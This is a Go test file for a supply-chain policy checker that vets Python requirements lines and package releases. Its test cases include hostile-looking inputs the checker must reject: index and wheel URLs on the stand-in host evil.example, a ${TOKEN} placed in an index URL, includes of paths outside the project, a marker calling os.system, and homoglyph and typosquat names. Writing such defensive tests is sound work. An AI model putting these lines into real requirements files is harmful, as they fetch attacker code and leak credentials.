package policy

import (
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/advisory"
	"github.com/airlock-dev/airlock/internal/pep440"
	"github.com/airlock-dev/airlock/internal/reqfile"
)

var testNow = time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)

func testAdvisories(t testing.TB) *advisory.Index {
	t.Helper()
	ix, err := advisory.LoadFS(os.DirFS("testdata/osv"))
	if err != nil {
		t.Fatal(err)
	}
	return ix
}

func mustPolicy(t testing.TB, yaml string, withData bool) *Policy {
	t.Helper()
	cfg := Default()
	if yaml != "" {
		var err error
		cfg, err = Parse("policy.yaml", []byte(yaml))
		if err != nil {
			t.Fatalf("Parse: %v", err)
		}
	}
	data := Data{Now: func() time.Time { return testNow }}
	if withData {
		data.Advisories = testAdvisories(t)
	}
	p, err := New(cfg, data)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return p
}

// checkText checks a requirements file held in memory as requirements.txt
// in the current directory.
func checkText(p *Policy, text string) Report {
	entries := reqfile.ParseLax("requirements.txt", []byte(text), &reqfile.Config{})
	return p.Check(CheckOptions{}, Input{Entries: entries, BaseDir: "."})
}

func rulesOf(r Result) []string {
	var out []string
	for _, f := range r.Findings {
		if f.Action != Allow {
			out = append(out, string(f.Rule))
		}
	}
	return out
}

const allowlistNumpyPandas = `version: 1
mode: allowlist
allow:
  - numpy
  - name: pandas
    versions: ">=2.0"
`

func TestDecideEntries(t *testing.T) {
	tests := []struct {
		name   string
		policy string // "" for the default
		line   string
		want   Action
		rules  []string // rules of the findings that are not allowed
	}{
		// Legitimate spellings pass.
		{"plain", "", "requests==2.31.0", Allow, nil},
		{"case and separators", "", "Requests == 2.31.0", Allow, nil},
		{"comment", "", "requests==2.31.0  # HTTP", Allow, nil},
		{"marker", "", `requests==2.31.0; python_version >= "3.8"`, Allow, nil},
		{"extras", "", "requests[socks]==2.31.0", Allow, nil},
		{"wildcard", "", "requests==2.31.*", Allow, nil},
		{"range", "", "requests>=2.31,<3", Allow, nil},
		{"hash", "", "requests==2.31.0 --hash=sha256:" + strings.Repeat("a", 64), Allow, nil},
		{"only-binary", "", "--only-binary :all:", Allow, nil},
		{"require-hashes", "", "--require-hashes", Allow, nil},
		{"pinned prerelease", "", "numpy==2.0.0rc1", Allow, nil},

		// Where packages come from.
		{"index url", "", "--index-url https://evil.example/simple", Deny, []string{"index-option"}},
		{"abbreviated index url", "", "--index https://evil.example/simple", Deny, []string{"index-option"}},
		{"extra index", "", "--extra-index-url https://evil.example/simple", Deny, []string{"index-option"}},
		{"find links", "", "-f https://evil.example/", Deny, []string{"index-option"}},
		{"trusted host", "", "--trusted-host evil.example", Deny, []string{"index-option"}},
		{"no index", "", "--no-index", Deny, []string{"index-option"}},
		{"index on a requirement line", "", "numpy --index-url https://evil.example/simple", Deny, []string{"index-option"}},
		{"no binary", "", "--no-binary :all:", Deny, []string{"build-option"}},
		{"global option", "", "numpy --global-option=--foo", Deny, []string{"build-option"}},
		{"unknown option", "", "--frobnicate", Deny, []string{"unknown-option"}},
		{"target in a file is unknown", "", "--target /tmp/x", Deny, []string{"unknown-option"}},

		// Direct references.
		{"name @ url", "", "numpy @ https://evil.example/numpy-1.0-py3-none-any.whl", Deny, []string{"direct-url"}},
		{"vcs", "", "git+https://evil.example/numpy.git#egg=numpy", Deny, []string{"direct-url"}},
		{"path", "", "./vendor/numpy", Deny, []string{"direct-url"}},
		{"wheel file", "", "numpy-1.0-py3-none-any.whl", Deny, []string{"direct-url"}},
		{"editable", "", "-e git+https://evil.example/x.git#egg=x", Deny, []string{"direct-url"}},

		// Includes.
		{"include url", "", "-r https://evil.example/reqs.txt", Deny, []string{"include"}},
		{"include outside", "", "-r ../secrets.txt", Deny, []string{"include"}},
		{"constraint outside", "", "-c /etc/constraints.txt", Deny, []string{"include"}},

		// Environment variables.
		{"env var in url", "", "--index-url https://${TOKEN}@evil.example/simple", Deny, []string{"env-var", "index-option"}},
		{"env var in name", "", "numpy${SUFFIX}==1.0", Deny, []string{"env-var", "syntax"}},

		// Names.
		{"cyrillic e", "", "r\u0435quests==2.31.0", Deny, []string{"invalid-name"}},
		{"zero width", "", "requ\u200bests==2.31.0", Deny, []string{"invalid-name"}},
		{"marker with code", "", `numpy; os.system("id")`, Deny, []string{"syntax"}},
		{"typosquat", "", "reqeusts==2.31.0", Deny, []string{"typosquat"}},
		{"installer pin", "", "pip==9.0.1", Deny, []string{"installer-pin"}},
		{"installer allowed", "version: 1\nallow: [pip]\n", "pip==23.0", Allow, nil},
		{"denied", "version: 1\ndeny:\n  - {name: evil-dep, reason: known bad}\n", "Evil_Dep==1.0", Deny, []string{"denied"}},
		{"denied versions", "version: 1\ndeny:\n  - {name: six, versions: \"<1.16\"}\n", "six==1.15.0", Deny, []string{"denied"}},
		{"denied versions not hit", "version: 1\ndeny:\n  - {name: six, versions: \"<1.16\"}\n", "six==1.16.0", Allow, nil},
		{"denied versions partly", "version: 1\ndeny:\n  - {name: six, versions: \"<1.16\"}\n", "six>=1.0", Review, []string{"denied"}},

		// Where pip 23.0.1 (packaging 21.3) reads differently from PEP 508.
		{"backslash in marker", "", `evil==1.0; sys_platform != "\x6cinux"`, Deny, []string{"syntax"}},
		{"wildcard not canonical", "", "numpy!=v1.1.*", Deny, []string{"syntax"}},
		{"compatible not canonical", "", "numpy~=1.0.PRE1", Deny, []string{"prerelease", "syntax"}},
		{"wildcard canonical", "", "numpy!=1.1.*", Allow, nil},

		// Versions.
		{"prerelease range", "", "numpy>=2.0.0rc1", Deny, []string{"prerelease"}},
		{"pre option", "", "--pre", Deny, []string{"prerelease"}},
		{"prerelease review", "version: 1\nrules: {prerelease: review}\n", "numpy>=2.0.0rc1", Review, []string{"prerelease"}},
		{"unpinned on", "version: 1\nrules: {unpinned: deny}\n", "numpy>=1.0", Deny, []string{"unpinned"}},
		{"unpinned on, pinned", "version: 1\nrules: {unpinned: deny}\n", "numpy===1.0", Allow, nil},

		// Allow-list mode.
		{"allowlist ok", allowlistNumpyPandas, "numpy==1.26.0", Allow, nil},
		{"allowlist other", allowlistNumpyPandas, "evilpkg==1.0", Deny, []string{"not-allowed"}},
		{"allowlist versions", allowlistNumpyPandas, "pandas==1.0", Deny, []string{"not-allowed"}},
		{"allowlist versions ok", allowlistNumpyPandas, "pandas==2.1.0", Allow, nil},
		{"allowlist versions range", allowlistNumpyPandas, "pandas>=1.5", Review, []string{"not-allowed"}},
		{"allowlist index smuggle", allowlistNumpyPandas, "numpy --index-url https://evil.example/simple", Deny, []string{"index-option"}},
		{"allowlist url", allowlistNumpyPandas, "numpy @ https://evil.example/numpy.whl", Deny, []string{"direct-url"}},

		// Custom rules.
		{"custom", "version: 1\ncustom:\n  - name: internal-prefix\n    expr: 'candidate.name.startsWith(\"acme-\")'\n    message: internal packages come from the internal index only\n", "acme-tools==1.0", Deny, []string{"custom"}},
		{"custom review", "version: 1\ncustom:\n  - {name: big, expr: 'candidate.extras.size() > 1', action: review, message: too many extras}\n", "requests[a,b]==2.31.0", Review, []string{"custom"}},
		{"custom no match", "version: 1\ncustom:\n  - {name: x, expr: 'candidate.name == \"nope\"', message: m}\n", "requests==2.31.0", Allow, nil},
		{"custom option", "version: 1\nrules: {index-option: off}\ncustom:\n  - {name: only-ours, expr: 'candidate.option == \"--index-url\" && !candidate.option_value.startsWith(\"https://pypi.internal/\")', message: use the internal mirror}\n", "-i https://evil.example/simple", Deny, []string{"custom"}},

		// Protected internal names.
		{"confusion", "version: 1\nprotected: [\"acme-*\"]\n", "acme-billing==1.0", Deny, []string{"confusion"}},
		{"rule off", "version: 1\nrules: {typosquat: off}\n", "reqeusts==2.31.0", Allow, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := mustPolicy(t, tt.policy, false)
			rep := checkText(p, tt.line+"\n")
			if len(rep.Results) == 0 {
				t.Fatalf("check(%q) produced no results", tt.line)
			}
			var got Action
			var rules []string
			for _, r := range rep.Results {
				got = max(got, r.Decision)
				rules = append(rules, rulesOf(r)...)
			}
			slices.Sort(rules)
			rules = slices.Compact(rules)
			want := slices.Clone(tt.rules)
			slices.Sort(want)
			if got != tt.want || !reflect.DeepEqual(rules, want) {
				t.Errorf("check(%q) = %v %v, want %v %v\nfindings: %+v", tt.line, got, rules, tt.want, want, rep.Results)
			}
		})
	}
}

func TestVulnerableAndMalicious(t *testing.T) {
	p := mustPolicy(t, "", true)
	tests := []struct {
		line       string
		want       Action
		rules      []string
		advisory   string
		suggestion string
	}{
		{"requests==2.25.0", Deny, []string{"vulnerable"}, "PYSEC-2023-74 (CVE-2023-32681, GHSA-j8r2-6x86-q33q)", "requests>=2.31.0"},
		{"requests==2.31.0", Allow, nil, "", ""},
		{"requests>=2.20,<2.30", Deny, []string{"vulnerable"}, "PYSEC-2023-74 (CVE-2023-32681, GHSA-j8r2-6x86-q33q)", ""},
		{"requests>=2.0", Review, []string{"vulnerable"}, "PYSEC-2023-74 (CVE-2023-32681, GHSA-j8r2-6x86-q33q)", "requests>=2.31.0"},
		{"evilpkg==1.0", Deny, []string{"malicious"}, "MAL-2024-0001", ""},
		{"EvilPkg", Deny, []string{"malicious"}, "MAL-2024-0001", ""},
	}
	for _, tt := range tests {
		rep := checkText(p, tt.line)
		r := rep.Results[0]
		if r.Decision != tt.want || !reflect.DeepEqual(rulesOf(r), tt.rules) {
			t.Errorf("check(%q) = %v %v, want %v %v: %+v", tt.line, r.Decision, rulesOf(r), tt.want, tt.rules, r.Findings)
			continue
		}
		if tt.advisory == "" {
			continue
		}
		f := r.Findings[0]
		if !slices.Contains(f.Advisories, tt.advisory) {
			t.Errorf("check(%q) advisories = %q, want %q", tt.line, f.Advisories, tt.advisory)
		}
		if tt.suggestion != "" && !strings.HasPrefix(f.Suggestion, tt.suggestion) {
			t.Errorf("check(%q) suggestion = %q, want prefix %q", tt.line, f.Suggestion, tt.suggestion)
		}
	}
	if rep := checkText(p, "requests==2.25.0"); !strings.Contains(rep.Results[0].Findings[0].Message, "fixed in 2.31.0") {
		t.Errorf("message %q does not say the fixed version", rep.Results[0].Findings[0].Message)
	}
}

func TestMinSeverity(t *testing.T) {
	low := mustPolicy(t, "", true)
	high := mustPolicy(t, "version: 1\nrules:\n  vulnerable: {action: deny, min_severity: high}\n", true)
	if got := checkText(low, "lowpkg==1.0").Results[0].Decision; got != Deny {
		t.Errorf("default min_severity: lowpkg==1.0 = %v, want deny", got)
	}
	if got := checkText(high, "lowpkg==1.0").Results[0].Decision; got != Allow {
		t.Errorf("min_severity high: lowpkg==1.0 = %v, want allow", got)
	}
	// Malicious reports are never filtered by severity.
	if got := checkText(high, "evilpkg==1.0").Results[0].Decision; got != Deny {
		t.Errorf("min_severity high: evilpkg==1.0 = %v, want deny", got)
	}
}

func TestNoAdvisoryData(t *testing.T) {
	p := mustPolicy(t, "", false)
	rep := checkText(p, "requests==2.25.0")
	if rep.Results[0].Decision != Allow {
		t.Errorf("without data, requests==2.25.0 = %v, want allow (with a note)", rep.Results[0].Decision)
	}
	if len(rep.Notes) == 0 || !strings.Contains(rep.Notes[0], "no advisory data") {
		t.Errorf("notes = %q, want a note about missing advisory data", rep.Notes)
	}
	strict := mustPolicy(t, "version: 1\nrules:\n  vulnerable: {action: deny, require_data: true}\n", false)
	if got := checkText(strict, "requests==2.31.0").Results[0].Decision; got != Deny {
		t.Errorf("require_data without data: %v, want deny", got)
	}
}

func TestExceptions(t *testing.T) {
	pol := `version: 1
exceptions:
  - {name: requests, version: "2.25.0", rule: vulnerable, reason: "patched in our fork", expires: 2027-01-31}
  - {name: reqeusts, rule: typosquat, reason: "ours", expires: 2026-01-01}
  - {name: six, rule: denied, reason: "never used", expires: 2027-01-31}
`
	p := mustPolicy(t, pol, true)
	rep := checkText(p, "requests==2.25.0\nrequests==2.26.0\nreqeusts==1.0\n")
	if r := rep.Results[0]; r.Decision != Allow || r.Findings[0].Exception == nil || r.Findings[0].Exception.Reason != "patched in our fork" {
		t.Errorf("requests==2.25.0 with an exception: %+v, want allow with the exception", r)
	}
	if r := rep.Results[1]; r.Decision != Deny {
		t.Errorf("requests==2.26.0 (not covered by the exception) = %v, want deny", r.Decision)
	}
	if r := rep.Results[2]; r.Decision != Deny {
		t.Errorf("expired exception applied: %+v", r)
	}
	notes := strings.Join(rep.Notes, "\n")
	if !strings.Contains(notes, "reqeusts (typosquat) expired on 2026-01-01") {
		t.Errorf("notes do not report the expired exception:\n%s", notes)
	}
	if !strings.Contains(notes, "six (denied) was not needed") {
		t.Errorf("notes do not report the unused exception:\n%s", notes)
	}
}

func TestDecideReleases(t *testing.T) {
	p := mustPolicy(t, "version: 1\ndeny:\n  - {name: evil-dep, reason: known bad}\nrules:\n  cooldown: {action: review, min_age: 7d}\n", true)
	v := pep440.MustParse
	installed := map[string]pep440.Version{"requests": v("2.31.0")}
	tests := []struct {
		name  string
		rel   Release
		stage Stage
		want  Action
		rules []string
	}{
		{"clean", Release{Name: "idna", Version: v("3.4"), File: &File{Filename: "idna-3.4-py3-none-any.whl", UploadTime: testNow.Add(-30 * 24 * time.Hour)}}, StageInstall, Allow, nil},
		{"vulnerable", Release{Name: "requests", Version: v("2.25.0")}, StageProxy, Deny, []string{"downgrade", "vulnerable"}},
		{"downgrade", Release{Name: "requests", Version: v("2.30.0")}, StageInstall, Deny, []string{"downgrade", "vulnerable"}},
		{"transitive denied", Release{Name: "evil-dep", Version: v("0.1"), Path: []string{"app 1.0", "evil-dep 0.1"}}, StageInstall, Deny, []string{"denied"}},
		{"sdist", Release{Name: "idna", Version: v("3.4"), File: &File{Filename: "idna-3.4.tar.gz", Sdist: true, UploadTime: testNow.Add(-30 * 24 * time.Hour)}}, StageInstall, Deny, []string{"sdist"}},
		{"yanked", Release{Name: "idna", Version: v("3.4"), File: &File{Filename: "idna-3.4-py3-none-any.whl", Yanked: true, UploadTime: testNow.Add(-30 * 24 * time.Hour)}}, StageInstall, Deny, []string{"yanked"}},
		{"too new", Release{Name: "idna", Version: v("3.5"), File: &File{Filename: "idna-3.5-py3-none-any.whl", UploadTime: testNow.Add(-time.Hour)}}, StageProxy, Review, []string{"cooldown"}},
		{"unknown upload time", Release{Name: "idna", Version: v("3.5"), File: &File{Filename: "idna-3.5-py3-none-any.whl"}}, StageProxy, Review, []string{"cooldown"}},
		{"prerelease unpinned", Release{Name: "idna", Version: v("4.0a1")}, StageInstall, Deny, []string{"prerelease"}},
		{"prerelease pinned", Release{Name: "idna", Version: v("4.0a1"), Requested: pep440.MustParseSpecifierSet("==4.0a1")}, StageInstall, Allow, nil},
		{"artifact", Release{Name: "idna", Version: v("3.4"), File: &File{Filename: "idna-3.4-py3-none-any.whl", UploadTime: testNow.Add(-30 * 24 * time.Hour),
			Inspection: []ArtifactFinding{{ID: "pth-exec", Path: "idna.pth", Message: "executable .pth line", Deny: true}}}}, StageInstall, Deny, []string{"artifact"}},
		{"transitive installer", Release{Name: "setuptools", Version: v("68.0"), Path: []string{"app 1.0", "setuptools 68.0"}}, StageInstall, Allow, nil},
		{"malicious", Release{Name: "evilpkg", Version: v("1.0")}, StageProxy, Deny, []string{"malicious"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rel := tt.rel
			d := p.Decide(Candidate{Stage: tt.stage, Release: &rel, Installed: installed})
			var rules []string
			for _, f := range d.Findings {
				rules = append(rules, string(f.Rule))
			}
			slices.Sort(rules)
			if d.Action != tt.want || !reflect.DeepEqual(rules, tt.rules) {
				t.Errorf("Decide(%s %s) = %v %v, want %v %v: %+v", rel.Name, rel.Version, d.Action, rules, tt.want, tt.rules, d.Findings)
			}
			if rel.Path != nil && len(d.Findings) > 0 && !reflect.DeepEqual(d.Findings[0].Path, rel.Path) {
				t.Errorf("finding path = %q, want %q", d.Findings[0].Path, rel.Path)
			}
		})
	}
}

func TestDowngradeRequest(t *testing.T) {
	p := mustPolicy(t, "", false)
	installed := map[string]pep440.Version{"requests": pep440.MustParse("2.31.0")}
	for line, want := range map[string]Action{
		"requests==2.30.0": Deny,
		"requests<2.31":    Deny,
		"requests>=2.0":    Allow,
		"requests==2.32.0": Allow,
	} {
		entries := reqfile.ParseLax("r.txt", []byte(line), nil)
		rep := p.Check(CheckOptions{Installed: installed}, Input{Entries: entries, BaseDir: "."})
		if got := rep.Results[0].Decision; got != want {
			t.Errorf("with requests 2.31.0 installed, %s = %v, want %v", line, got, want)
		}
	}
}

func TestDecideProject(t *testing.T) {
	p := mustPolicy(t, allowlistNumpyPandas+"deny:\n  - {name: evil-dep, reason: known bad}\n", true)
	for name, want := range map[string]Action{"numpy": Allow, "requests": Deny, "evil-dep": Deny, "evilpkg": Deny} {
		if got := p.Decide(Candidate{Stage: StageProxy, Project: name}).Action; got != want {
			t.Errorf("Decide(project %s) = %v, want %v", name, got, want)
		}
	}
}

func TestReportJSONShape(t *testing.T) {
	p := mustPolicy(t, "", false)
	rep := checkText(p, "Requests[socks]>=2.31; python_version>'3'\n--index-url https://x\n")
	r := rep.Results[0]
	if *r.Name != "Requests" || *r.CanonicalName != "requests" || r.Specifier != ">=2.31" || r.Line != 1 ||
		!reflect.DeepEqual(r.Extras, []string{"socks"}) || *r.Marker != `python_version > "3"` {
		t.Errorf("result = %+v", r)
	}
	if rep.Results[1].Name != nil || rep.Results[1].Line != 2 {
		t.Errorf("option result = %+v, want no name, line 2", rep.Results[1])
	}
	if rep.Summary != (Summary{Allow: 1, Deny: 1}) {
		t.Errorf("summary = %+v", rep.Summary)
	}
}

func TestExceptionHardening(t *testing.T) {
	cfgSrc := `version: 1
exceptions:
  - {name: vendored, rule: direct-url, url: "https://files.internal.example/", reason: "our build", expires: 2099-01-01}
  - {name: acme-tools, rule: custom, custom: internal-prefix, reason: "allowed here", expires: 2099-01-01}
custom:
  - {name: internal-prefix, expr: 'candidate.name.startsWith("acme-")', message: internal}
  - {name: other, expr: 'candidate.name == "acme-other"', message: other}
`
	cfg, err := Parse("policy.yaml", []byte(cfgSrc))
	if err != nil {
		t.Fatal(err)
	}
	approved, err := NewException("requests", "", RuleVulnerable, "approved review 7", testNow.Add(24*time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	approved.ReviewOnly = true
	pinned, err := NewException("lowpkg", "1.0", RuleVulnerable, "accepted", testNow.Add(24*time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(cfg, Data{Advisories: testAdvisories(t), Now: func() time.Time { return testNow }, Exceptions: []Exception{approved, pinned}})
	if err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]Action{
		"vendored @ https://files.internal.example/vendored-1.0-py3-none-any.whl": Allow,
		"vendored @ https://evil.example/vendored-1.0-py3-none-any.whl":           Deny,
		"https://evil.example/x.zip#egg=vendored":                                 Deny,
		"acme-tools==1.0":  Allow,
		"acme-other==1.0":  Deny, // matches both custom rules; the exception covers one
		"requests>=2.0":    Allow,
		"requests==2.25.0": Deny, // the review-only exception never softens a deny
		"lowpkg==1.0":      Allow,
		"lowpkg==1.1":      Deny, // NewException parsed the version: it covers 1.0 only
	} {
		if got := checkText(p, line).Results[0].Decision; got != want {
			t.Errorf("check(%q) = %v, want %v", line, got, want)
		}
	}
	for src, msg := range map[string]string{
		"version: 1\nexceptions:\n  - {name: x, rule: direct-url, reason: r, expires: 2099-01-01}\n":         "a direct-url exception needs url",
		"version: 1\nexceptions:\n  - {name: x, rule: vulnerable, url: u, reason: r, expires: 2099-01-01}\n": "url applies only to rule direct-url",
		"version: 1\nexceptions:\n  - {name: x, rule: denied, custom: c, reason: r, expires: 2099-01-01}\n":  "custom applies only to rule custom",
	} {
		if _, err := Parse("policy.yaml", []byte(src)); err == nil || !strings.Contains(err.Error(), msg) {
			t.Errorf("Parse(%q) = %v, want %q", src, err, msg)
		}
	}
	if _, err := NewException("requests", ">=two", RuleVulnerable, "r", testNow); err == nil {
		t.Error("NewException accepted a bad version")
	}
	if _, err := NewException("requests", "", RuleVulnerable, "", testNow); err == nil {
		t.Error("NewException accepted an empty reason")
	}
}

func TestParseBlockScalarsAndAnchors(t *testing.T) {
	src := "version: 1\ndeny:\n  - name: evil\n    reason: |\n      known bad:\n      see ticket 12\n  - name: &n worse\n    reason: >\n      folded\n      text\n"
	c, err := Parse("policy.yaml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if c.Deny[0].Reason != "known bad:\nsee ticket 12\n" || c.Deny[1].Name != "worse" || c.Deny[1].Reason != "folded text\n" {
		t.Errorf("deny = %+v", c.Deny)
	}
}

// TestInstallStageDefersRanges: at the install stage, findings about some
// of the versions a range admits wait for the resolved release, which is
// vetted exactly; ranges whose every version is refused still stop.
func TestInstallStageDefersRanges(t *testing.T) {
	p := mustPolicy(t, allowlistNumpyPandas+"  - requests\ndeny:\n  - {name: six, versions: \"<1.16\"}\n", true)
	for line, want := range map[string][2]Action{ // check stage, install stage
		"requests>=2.0":        {Review, Allow},
		"requests==2.25.0":     {Deny, Deny},
		"requests>=2.20,<2.30": {Deny, Deny},
		"pandas>=1.5":          {Review, Allow},
		"pandas==1.0":          {Deny, Deny},
		"numpy>=2.0rc1":        {Deny, Allow},
	} {
		entries := reqfile.ParseLax("r.txt", []byte(line), nil)
		for i, stage := range []Stage{StageCheck, StageInstall} {
			rep := p.Check(CheckOptions{Stage: stage}, Input{Entries: entries, BaseDir: "."})
			if got := rep.Action(); got != want[i] {
				t.Errorf("%s at the %s stage = %v, want %v", line, stage, got, want[i])
			}
		}
	}
}
